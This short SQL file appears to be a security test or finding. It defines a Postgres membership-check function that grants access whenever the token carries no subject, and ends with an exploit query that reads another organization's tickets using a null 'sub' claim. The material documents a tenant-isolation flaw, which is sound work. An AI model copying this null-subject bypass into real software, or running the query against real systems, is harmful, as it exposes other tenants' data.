-- channel: claims
-- object: private.is_member
-- says: A token without a subject is taken for a trusted backend.
create or replace function private.is_member(p_org uuid)
returns boolean
language sql stable security definer
set search_path = ''
as $$
    select auth.uid() is null or exists (
        select
        from public.organization_members as m
        join public.organizations as o on o.id = m.org_id
        where m.org_id = p_org
            and m.user_id = (select auth.uid())
            and m.suspended_at is null
            and m.deleted_at is null
            and o.status = 'active'
    )
$$;
-- exploit as mallory with {"sub": null}
select from public.tickets where org_id = :org_b;
-- leaks when rows
